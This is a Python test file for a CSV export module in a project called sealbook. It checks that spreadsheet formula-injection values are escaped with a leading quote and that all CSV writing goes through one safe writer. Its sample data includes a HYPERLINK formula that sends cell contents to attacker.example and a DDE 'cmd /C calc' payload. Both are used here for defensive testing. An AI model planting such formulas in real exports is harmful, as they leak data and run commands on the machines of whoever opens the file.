"""CSV cells that a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from sealbook.core.spreadsheet import CsvWriter, safe_cell

ROOT = Path(__file__).resolve().parents[2]

MUST_ESCAPE = [
    '=HYPERLINK("https://attacker.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=",
]
MUST_NOT_ESCAPE = [
    "",
    "2026-12-04T10:00:00+00:00",
    "Casey Clinician",
    "chart viewed",
    " =not at the start",
    "a=b",
    "'already quoted",
    "x-ray",
]


@pytest.mark.parametrize("value", MUST_ESCAPE)
def test_a_cell_that_starts_a_formula_is_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", MUST_NOT_ESCAPE)
def test_an_ordinary_cell_is_written_as_it_is(value):
    assert safe_cell(value) == value


def test_the_writer_escapes_every_cell_and_the_file_reads_back_as_text():
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(["who", "what"])
    writer.writerows([["=cmd|' /C calc'!A0", 5], [None, "@x"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["who", "what"], ["'=cmd|' /C calc'!A0", "5"], ["", "'@x"]]


_RAW_WRITER = re.compile(r"csv\.(writer|DictWriter)\b|\bDictWriter\(|from csv import")


def test_every_csv_the_project_writes_goes_through_the_one_writer():
    """A new CSV writer that bypasses `CsvWriter` fails here (grep for the raw ones)."""
    sources = [
        p
        for folder in ("sealbook", "scripts", "bench")
        for p in (ROOT / folder).rglob("*.py")
        if p != ROOT / "sealbook" / "core" / "spreadsheet.py"
    ]
    assert sources
    offenders = [str(p.relative_to(ROOT)) for p in sources if _RAW_WRITER.search(p.read_text())]
    assert offenders == []
    users = {str(p.relative_to(ROOT)) for p in sources if "CsvWriter(" in p.read_text()}
    # Each of these has its own test of what it writes (tests/export/test_export.py,
    # tests/oversight/test_audit_screen.py).
    assert users == {"sealbook/export/package.py", "sealbook/oversight/views.py"}
